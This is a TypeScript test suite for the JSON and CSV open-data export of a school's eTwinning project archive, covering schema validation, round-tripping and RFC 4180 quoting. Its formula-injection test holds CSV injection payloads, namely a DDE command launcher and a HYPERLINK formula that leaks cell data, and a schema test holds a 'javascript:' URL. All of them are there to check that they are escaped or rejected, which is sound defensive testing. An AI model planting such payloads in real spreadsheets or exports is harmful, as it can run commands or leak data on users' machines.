import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { Ajv2020, type ValidateFunction } from 'ajv/dist/2020.js';
import { loadArchive } from '../../../src/content/load.ts';
import type { Archive, Project } from '../../../src/content/model.ts';
import { countryName } from '../../../src/content/normalise/countries.ts';
import { classGroupCode, parseClassGroup, type ClassGroup } from '../../../src/content/normalise/grades.ts';
import { formatProblem } from '../../../src/content/problems.ts';
import { LANGUAGES } from '../../../src/i18n/languages.ts';
import { archiveCsv, csvField, openArchive, openArchiveJson, openArchiveJsonSchema, openArchiveSchema, type OpenArchive } from '../../../src/site/open-data.ts';
import { bundledContent } from '../../helpers/content-fixture.ts';
import { FULL, GREEK_OUTCOMES, makeFieldsFixture, OUTCOMES, PLATFORM } from '../../helpers/fields-fixture.ts';

/** RFC 4180, strictly: CRLF between records, quoted fields with doubled quotes; anything else throws. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`a quote in an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
      if (i === text.length) return rows;
      continue;
    }
    if (i === text.length) {
      rows.push(row);
      return rows;
    }
    throw new Error(`expected a comma or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 10))}`);
  }
}

/** The CSV without its byte order mark, as records of named fields. */
function csvRecords(csv: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(csv.replace(/^\uFEFF/, ''));
  return rows.map((row) => {
    assert.equal(row.length, header!.length, `a row with ${row.length} fields: ${row.join(' | ')}`);
    return Object.fromEntries(header!.map((name, i) => [name, row[i]!]));
  });
}

function classGroupFromCode(code: string): ClassGroup {
  const parsed = parseClassGroup(code);
  assert.ok(parsed.ok, code);
  return parsed.value;
}

/** An archive with one project changed (the years and continues links still point to the originals). */
function withProject(archive: Archive, id: string, change: (project: Project) => Project): Archive {
  return { ...archive, projects: archive.projects.map((project) => (project.id === id ? change(project) : project)) };
}

describe('open data', () => {
  let archive: Archive;
  let data: OpenArchive;
  let validate: ValidateFunction;

  before(async () => {
    const result = await loadArchive(bundledContent);
    assert.deepEqual(
      result.problems.map((problem) => formatProblem(problem, 'en')),
      [],
    );
    archive = result.archive!;
    // What a visitor downloads: the JSON text, not the object in memory.
    data = JSON.parse(openArchiveJson(archive));
    const ajv = new Ajv2020({ strict: true, allErrors: true });
    validate = ajv.compile(openArchiveJsonSchema());
  });

  describe('archive.schema.json', () => {
    test('is a JSON Schema 2020-12 document with an id and a title', () => {
      const schema = openArchiveJsonSchema();
      assert.equal(schema.$schema, 'https://json-schema.org/draft/2020-12/schema');
      assert.equal(schema.$id, '/archive.schema.json');
      assert.equal(schema.title, 'eTwinning archive');
      assert.equal(
        openArchiveJsonSchema({ url: (path) => `https://school.example.org/etwinning${path}` }).$id,
        'https://school.example.org/etwinning/archive.schema.json',
      );
      // It is plain JSON: what the site publishes is what the test validates with.
      assert.deepEqual(JSON.parse(JSON.stringify(schema)), schema);
    });

    test('archive.json of the bundled content is valid against it', () => {
      assert.ok(validate(data), JSON.stringify(validate.errors, null, 2));
    });

    test('refuses records the content validation would refuse', () => {
      const broken = (change: (copy: OpenArchive) => void): boolean => {
        const copy = structuredClone(data);
        change(copy);
        return validate(copy);
      };
      assert.equal(
        broken(() => {}),
        true,
      );
      assert.equal(
        broken((copy) => (copy.projects[0]!.partners[0] = 'Latvia')),
        false,
        'a country name for a code',
      );
      assert.equal(
        broken((copy) => (copy.projects[0]!.classes[0]!.code = 'E5')),
        false,
        'a Latin class code',
      );
      assert.equal(
        broken((copy) => (copy.projects[0]!.classes[0]!.grade = 7 as 1)),
        false,
        'a 7th grade',
      );
      assert.equal(
        broken((copy) => (copy.projects[0]!.id = '2015-2016/The Scratch Project')),
        false,
        'an id with capitals and spaces',
      );
      assert.equal(
        broken((copy) => (copy.years[0]!.id = '2015/16')),
        false,
        'not a school year folder',
      );
      assert.equal(
        broken((copy) => (copy.projects[0]!.versions = {})),
        false,
        'a project without versions',
      );
      assert.equal(
        broken((copy) => Object.assign(copy.projects[0]!.versions, { gr: copy.projects[0]!.versions.el })),
        false,
        'an unknown language',
      );
      assert.equal(
        broken((copy) => delete (copy.projects[0]!.versions.el as { title?: string }).title),
        false,
        'a version without a title',
      );
      assert.equal(
        broken((copy) => Object.assign(copy.projects[0]!, { teacher: 'x' })),
        false,
        'an unknown field',
      );
      assert.equal(
        broken((copy) => (copy.projects[0]!.labels = ['gold' as 'national'])),
        false,
        'a label that is not a Quality Label',
      );
      assert.equal(
        broken((copy) => (copy.projects[0]!.link = 'http://school-education.ec.europa.eu/x')),
        false,
        'an http link',
      );
      assert.equal(
        broken((copy) => copy.projects[0]!.versions.el!.outcomes.push({ title: 'x', url: 'javascript:alert(1)' })),
        false,
        'an outcome that is not an https address',
      );
      assert.equal(
        broken((copy) => copy.projects[0]!.versions.el!.outcomes.push({ title: 'x', url: 'https://books.example.org/x' })),
        true,
        'an outcome',
      );
    });

    test('the zod schema also checks what JSON Schema cannot say: the records point at each other', () => {
      assert.equal(openArchiveSchema.safeParse(data).success, true);
      const broken = (change: (copy: OpenArchive) => void) => {
        const copy = structuredClone(data);
        change(copy);
        return openArchiveSchema.safeParse(copy).success;
      };
      assert.equal(
        broken((copy) => (copy.projects[0]!.continues = '2010-2011/nothing')),
        false,
      );
      assert.equal(
        broken((copy) => copy.years[0]!.projects.pop()),
        false,
      );
      assert.equal(
        broken((copy) => (copy.projects[0]!.classes[0]!.code = "ΣΤ'")),
        false,
        'a code that is not its grade',
      );
      assert.equal(
        broken((copy) => (copy.projects[0]!.slug = 'another')),
        false,
        'an id that is not year/slug',
      );
      assert.equal(
        broken((copy) => copy.countries.shift()),
        false,
        'a partner missing from countries',
      );
      assert.equal(
        broken((copy) => Object.assign(copy.years[0]!, { id: '2015-2017', end: 2017 })),
        false,
        'a school year of two years',
      );
    });
  });

  describe('archive.json', () => {
    test('has the 4 school years, newest first, and their 10 projects in the site order', () => {
      assert.deepEqual(data.languages, [...LANGUAGES]);
      assert.deepEqual(data.school.name, archive.school.name);
      assert.deepEqual(
        data.years.map(({ id, start, end }) => ({ id, start, end })),
        archive.years.map(({ id, start, end }) => ({ id, start, end })),
      );
      assert.equal(data.years.length, 4);
      assert.equal(data.projects.length, 10);
      assert.deepEqual(
        data.years.map((year) => year.projects),
        archive.years.map((year) => year.projects.map((project) => project.id)),
      );
      assert.deepEqual(
        data.projects.map((project) => project.id),
        archive.projects.map((project) => project.id),
      );
    });

    test('round-trips every project of the bundled content', () => {
      const byId = new Map(data.projects.map((project) => [project.id, project]));
      for (const project of archive.projects) {
        const open = byId.get(project.id);
        assert.ok(open, project.id);
        assert.equal(open.year, project.year);
        assert.equal(open.slug, project.slug);
        assert.deepEqual(
          open.classes.map((group) => classGroupFromCode(group.code)),
          project.classes,
          `${project.id}: classes by code`,
        );
        assert.deepEqual(
          open.classes.map(({ grade, section }) => (section === null ? { grade } : { grade, section })),
          project.classes,
          `${project.id}: classes by grade and section`,
        );
        assert.deepEqual(open.partners, project.partners, `${project.id}: partners in the teacher's order`);
        assert.equal(open.continues, project.continues?.id ?? null);
        assert.deepEqual(open.labels, project.labels);
        assert.equal(open.link, project.link ?? null);
        assert.deepEqual(
          open.continuedIn,
          project.continuedIn.map((later) => later.id),
        );
        assert.deepEqual(Object.keys(open.versions), Object.keys(project.versions));
        for (const lang of LANGUAGES) {
          const version = project.versions[lang];
          assert.deepEqual(
            open.versions[lang],
            version && { title: version.title, summary: version.summary ?? null, outcomes: version.outcomes, html: version.html },
            `${project.id}: ${lang} version`,
          );
        }
      }
    });

    test('gives the project that the school page lists first as the teacher wrote it', () => {
      const scratch = data.projects.find((project) => project.id === '2015-2016/the-scratch-project');
      assert.deepEqual(scratch?.classes, [{ code: "Ε'", grade: 5, section: null }]);
      assert.deepEqual(scratch?.partners, ['GR', 'LV', 'GB', 'IT', 'PT', 'PL', 'SK', 'BE', 'FR', 'RO', 'TR', 'ES']);
      assert.deepEqual(scratch?.urls, { el: '/2015-2016/the-scratch-project/', en: '/en/2015-2016/the-scratch-project/' });
      assert.equal(scratch?.versions.el?.title, 'The Scratch Project');
      assert.match(scratch?.versions.el?.html ?? '', /Λετονία/);

      const olympic = data.projects.find((project) => project.id === '2015-2016/olympic-games-unite-the-world');
      assert.deepEqual(olympic?.classes, [{ code: 'ΣΤ1', grade: 6, section: 1 }]);

      const cool = data.projects.find((project) => project.id === '2015-2016/cool-or-not-too-cool');
      assert.equal(cool?.continues, '2014-2015/cool-or-not-too-cool');
      assert.deepEqual(data.projects.find((project) => project.id === '2014-2015/cool-or-not-too-cool')?.continuedIn, ['2015-2016/cool-or-not-too-cool']);
    });

    test('names every partner country in every language, by code', () => {
      const codes = [...new Set(archive.projects.flatMap((project) => project.partners))].sort();
      assert.deepEqual(
        data.countries.map((country) => country.code),
        codes,
      );
      assert.deepEqual(data.countries.find((country) => country.code === 'LV')?.name, { el: 'Λετονία', en: 'Latvia' });
    });

    test('links the schema and the pages with the URLs the site gives', () => {
      assert.equal(data.$schema, '/archive.schema.json');
      const absolute = openArchive(archive, { url: (path) => `https://school.example.org${path}` });
      assert.equal(absolute.$schema, 'https://school.example.org/archive.schema.json');
      assert.equal(absolute.projects[0]!.urls.en, 'https://school.example.org/en/2015-2016/the-scratch-project/');
    });

    test('is the same on every build', () => {
      assert.equal(openArchiveJson(archive), openArchiveJson(archive));
    });

    test('leaves out a language that is not translated yet', () => {
      const id = '2013-2014/traditional-cultures';
      const untranslated = withProject(archive, id, (project) => ({ ...project, versions: { el: project.versions.el } }));
      const open = openArchive(untranslated).projects.find((project) => project.id === id);
      assert.deepEqual(Object.keys(open?.versions ?? {}), ['el']);
      assert.deepEqual(Object.keys(open?.urls ?? {}), [...LANGUAGES]);
      assert.ok(validate(JSON.parse(JSON.stringify(openArchive(untranslated)))), JSON.stringify(validate.errors));
    });
  });

  describe('archive.csv', () => {
    let csv: string;
    before(() => {
      csv = archiveCsv(archive);
    });

    test('is UTF-8 with a byte order mark and CRLF line endings', () => {
      assert.ok(csv.startsWith('\uFEFF'));
      assert.equal(csv.indexOf('\uFEFF', 1), -1);
      assert.doesNotMatch(csv, /[^\r]\n/, 'a line ending without CR');
      assert.ok(csv.endsWith('\r\n'));
      // The bytes a spreadsheet program sees: EF BB BF, then Greek as UTF-8.
      const bytes = Buffer.from(csv, 'utf8');
      assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
      assert.equal(bytes.toString('utf8'), csv);
    });

    test('has a header and one row per project per school year', () => {
      const rows = parseCsv(csv.slice(1));
      assert.deepEqual(rows[0], [
        'school_year',
        'project_id',
        ...LANGUAGES.map((lang) => `title_${lang}`),
        'classes',
        'partner_codes',
        ...LANGUAGES.map((lang) => `partner_names_${lang}`),
        'continues',
        'labels',
        'link',
      ]);
      assert.deepEqual(rows[0], [
        'school_year',
        'project_id',
        'title_el',
        'title_en',
        'classes',
        'partner_codes',
        'partner_names_el',
        'partner_names_en',
        'continues',
        'labels',
        'link',
      ]);
      assert.equal(rows.length, 1 + 10);
      assert.deepEqual(
        rows.slice(1).map((row) => [row[0], row[1]]),
        archive.years.flatMap((year) => year.projects.map((project) => [year.id, project.id])),
      );
    });

    test('parses back into the bundled content, Greek intact', () => {
      const records = csvRecords(csv);
      const byId = new Map(archive.projects.map((project) => [project.id, project]));
      for (const record of records) {
        const project = byId.get(record.project_id!);
        assert.ok(project, record.project_id);
        assert.equal(record.school_year, project.year);
        for (const lang of LANGUAGES) {
          assert.equal(record[`title_${lang}`], project.versions[lang]?.title ?? '');
          assert.deepEqual(
            record[`partner_names_${lang}`]!.split('; '),
            project.partners.map((code) => countryName(code, lang)),
          );
        }
        assert.deepEqual(record.classes!.split('; ').map(classGroupFromCode), project.classes);
        assert.equal(record.classes, project.classes.map(classGroupCode).join('; '));
        assert.deepEqual(record.partner_codes!.split('; '), project.partners);
        assert.equal(record.continues, project.continues?.id ?? '');
      }
      const scratch = records.find((record) => record.project_id === '2015-2016/the-scratch-project');
      assert.equal(scratch?.classes, "Ε'");
      assert.equal(scratch?.partner_codes, 'GR; LV; GB; IT; PT; PL; SK; BE; FR; RO; TR; ES');
      assert.match(scratch?.partner_names_el ?? '', /^Ελλάδα; Λετονία; Ηνωμένο Βασίλειο; /);
      assert.equal(records.find((record) => record.project_id === '2014-2015/healthy-and-unhealthy-habits')?.classes, 'Δ2; Ε1');
      // Titles with punctuation as teachers write them.
      assert.ok(records.some((record) => record.title_en === 'Separated... and... United'));
      assert.ok(records.some((record) => record.title_el?.startsWith('Cool or not too cool? ')));
    });

    test('quotes fields with commas, quotes and line breaks (RFC 4180)', () => {
      assert.equal(csvField('plain'), 'plain');
      assert.equal(csvField("Ε'; ΣΤ1"), "Ε'; ΣΤ1");
      assert.equal(csvField('a, b'), '"a, b"');
      assert.equal(csvField('say "hi"'), '"say ""hi"""');
      assert.equal(csvField('one\r\ntwo'), '"one\r\ntwo"');

      const id = '2015-2016/the-scratch-project';
      const titles = { el: 'Τι είναι, τελικά, το «Scratch»; Ένα "πρόγραμμα"...', en: 'What is Scratch, "really"?\nA line break' };
      const edited = withProject(archive, id, (project) => ({
        ...project,
        versions: {
          el: { ...project.versions.el!, title: titles.el },
          en: { ...project.versions.en!, title: titles.en },
        },
      }));
      const records = csvRecords(archiveCsv(edited));
      assert.equal(records.length, 10);
      const record = records.find((row) => row.project_id === id);
      assert.equal(record?.title_el, titles.el);
      assert.equal(record?.title_en, titles.en);
      assert.equal(record?.classes, "Ε'");
    });

    test('writes a field that a spreadsheet would run as a formula as text: a single quote first, quoted (OWASP)', () => {
      for (const start of ['=', '+', '-', '@', '\t', '\r']) {
        assert.equal(csvField(`${start}1+1`), `"'${start}1+1"`, JSON.stringify(start));
      }
      assert.equal(csvField('=HYPERLINK("http://example.org/?leak="&A1, "Click")'), `"'=HYPERLINK(""http://example.org/?leak=""&A1, ""Click"")"`);
      // Only at the start: a minus or an equals sign inside a title is plain text.
      assert.equal(csvField('Land - Sea = Life'), 'Land - Sea = Life');

      const id = '2015-2016/the-scratch-project';
      const titles = { el: "=cmd|'/C calc'!A0", en: "@SUM(1+1)*cmd|'/C calc'!A0" };
      const edited = withProject(archive, id, (project) => ({
        ...project,
        versions: { el: { ...project.versions.el!, title: titles.el }, en: { ...project.versions.en!, title: titles.en } },
      }));
      const csv = archiveCsv(edited);
      assert.ok(csv.includes(`,"'=cmd|'/C calc'!A0","'@SUM(1+1)*cmd|'/C calc'!A0",`), csv);
      // Still RFC 4180: each cell holds the title, marked as text.
      const record = csvRecords(csv).find((row) => row.project_id === id);
      assert.equal(record?.title_el, `'${titles.el}`);
      assert.equal(record?.title_en, `'${titles.en}`);
    });

    test('leaves the title of a language that is not translated yet empty', () => {
      const id = '2013-2014/traditional-cultures';
      const untranslated = withProject(archive, id, (project) => ({ ...project, versions: { el: project.versions.el } }));
      const record = csvRecords(archiveCsv(untranslated)).find((row) => row.project_id === id);
      assert.equal(record?.title_el, archive.projects.find((project) => project.id === id)?.versions.el?.title);
      assert.equal(record?.title_en, '');
      assert.equal(record?.partner_names_en, ['GR', 'PL', 'TR', 'ES', 'RO', 'SK'].map((code) => countryName(code, 'en')).join('; '));
    });
  });
});

describe('open data of projects with Quality Labels, a platform page and outcomes', () => {
  let archive: Archive;
  before(async () => {
    const fixture = makeFieldsFixture();
    try {
      const result = await loadArchive(fixture.contentDir);
      assert.deepEqual(
        result.problems.map((problem) => formatProblem(problem, 'en')),
        [],
      );
      archive = result.archive!;
    } finally {
      fixture.remove();
    }
  });

  test("archive.json carries the labels, the link and each language's outcomes, and is valid against its schema", () => {
    const data = JSON.parse(openArchiveJson(archive)) as OpenArchive;
    const validate = new Ajv2020({ strict: true, allErrors: true }).compile(openArchiveJsonSchema());
    assert.ok(validate(data), JSON.stringify(validate.errors, null, 2));
    const full = data.projects.find((project) => project.id === FULL)!;
    assert.deepEqual(full.labels, ['national', 'european']);
    // As the teacher wrote it, in the first file that has it.
    assert.equal(full.link, PLATFORM.el);
    assert.deepEqual(full.versions.el?.outcomes, OUTCOMES.el);
    assert.deepEqual(full.versions.en?.outcomes, OUTCOMES.en);
    const greekOnly = data.projects.find((project) => project.id === GREEK_OUTCOMES)!;
    assert.deepEqual(greekOnly.labels, ['national']);
    assert.equal(greekOnly.link, null);
    assert.deepEqual(greekOnly.versions.el?.outcomes, OUTCOMES.greekOnly);
    assert.deepEqual(greekOnly.versions.en?.outcomes, []);
    const others = data.projects.filter((project) => project.id !== FULL && project.id !== GREEK_OUTCOMES);
    assert.ok(others.every((project) => project.labels.length === 0 && project.link === null));
  });

  test('archive.csv has a labels and a link column, one row per project as before', () => {
    const records = csvRecords(archiveCsv(archive));
    assert.equal(records.length, 10);
    const full = records.find((record) => record.project_id === FULL)!;
    assert.equal(full.labels, 'national; european');
    assert.equal(full.link, PLATFORM.el);
    const greekOnly = records.find((record) => record.project_id === GREEK_OUTCOMES)!;
    assert.equal(greekOnly.labels, 'national');
    assert.equal(greekOnly.link, '');
    assert.ok(!Object.keys(full).some((column) => column.startsWith('outcome')), 'outcomes are in archive.json only');
  });
});
